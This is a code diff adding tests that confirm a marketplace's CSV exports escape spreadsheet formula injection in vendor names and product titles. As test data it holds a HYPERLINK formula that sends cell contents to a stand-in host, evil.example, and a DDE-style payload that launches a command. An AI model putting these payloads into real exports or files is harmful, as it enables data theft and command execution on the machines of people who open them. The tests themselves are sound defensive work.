@@ -4,9 +4,10 @@ import { extractText, getDocumentProxy } from "unpdf";
 import { beforeAll, describe, expect, it } from "vitest";
 import { refreshRollups } from "../../src/analytics/refresh";
 import { seedOpenSubOrders } from "../../src/dev/sla-watcher-bench";
+import { csv } from "../../src/exports/csv";
 import { EXPORT_PAGE_ORDERS, MAX_PDF_ORDERS } from "../../src/exports/order-list";
 import { ADMIN, api, newCustomer, tokenFor, uid } from "../support/api";
-import { newVendor } from "../support/catalog";
+import { newProduct, newSku, newVendor, newWarehouse } from "../support/catalog";
 import { meteredRequest } from "../support/invocation-budget";
 import { BENGALURU, checkout, MUMBAI, pay, stockedSku } from "../support/marketplace";
 
@@ -319,5 +320,46 @@ describe("analytics report exports", () => {
       expect((await download(`${base}/${suffix}`, scene.vendorB)).status).toBe(404);
     }
     expect((await download("/v1/analytics/platform/export", scene.vendorA)).status).toBe(403);
+  });
+});
+
+describe("text people chose, in a CSV", () => {
+  it("is never a formula a spreadsheet would run; amounts stay plain numbers", async () => {
+    const evilVendor = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';
+    const evilTitle = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const vendor = await newVendor();
+    const product = await newProduct(evilTitle);
+    const sku = await newSku(vendor.id, product.id, { price: { amountMinor: 9_000_000, currency: "INR" } });
+    const wh = await newWarehouse(vendor.id, { lat: BENGALURU.lat, lng: BENGALURU.lng });
+    const counted = await api("PUT", `/v1/skus/${sku.id}/stock`, {
+      token: ADMIN,
+      body: { warehouseId: wh.id, onHand: 5, reason: "count" },
+    });
+    expect(counted.status).toBe(200);
+    const vendorToken = await tokenFor("vendor", { vendorId: vendor.id });
+    const renamed = await api("PATCH", `/v1/vendors/${vendor.id}`, { token: vendorToken, body: { name: evilVendor } });
+    expect(renamed.status).toBe(200);
+    const shopper = await newCustomer();
+    const placed = await checkout(shopper.token, [{ skuId: sku.id, qty: 2 }]);
+    expect(placed.status).toBe(201);
+    expect((await pay(shopper.token, placed.body.payment.id)).status).toBe(200);
+
+    const orders = rowsOf(await (await download(`/v1/orders/export?format=csv&vendorId=${vendor.id}`, ADMIN)).text());
+    expect(orders.map((r) => [r.vendor_name, r.sub_order_total])).toEqual([[`'${evilVendor}`, "180000.00"]]);
+
+    await caughtUp();
+    const top = rowsOf(await (await download("/v1/analytics/platform/top-vendors/export?limit=100", ADMIN)).text());
+    expect(top.filter((r) => r.vendorId === vendor.id).map((r) => r.vendorName)).toEqual([`'${evilVendor}`]);
+    const products = rowsOf(
+      await (await download(`/v1/analytics/vendors/${vendor.id}/products/export`, vendorToken)).text(),
+    );
+    expect(products.map((r) => [r.title, r.salesMinor])).toEqual([[`'${evilTitle}`, "180000.00"]]);
+  });
+
+  it("leaves numbers, negative ones too, as they are and marks only text that starts a formula", () => {
+    const rows = [["-12.50", -1250, "+5", "-2+3", "=1+1", "\tcmd", "\rcmd", "Tea - green", "a=b", ""]];
+    expect(parse(csv(rows), { relax_quotes: true })).toEqual([
+      ["-12.50", "-1250", "+5", "'-2+3", "'=1+1", "'\tcmd", "'\rcmd", "Tea - green", "a=b", ""],
+    ]);
   });
 });
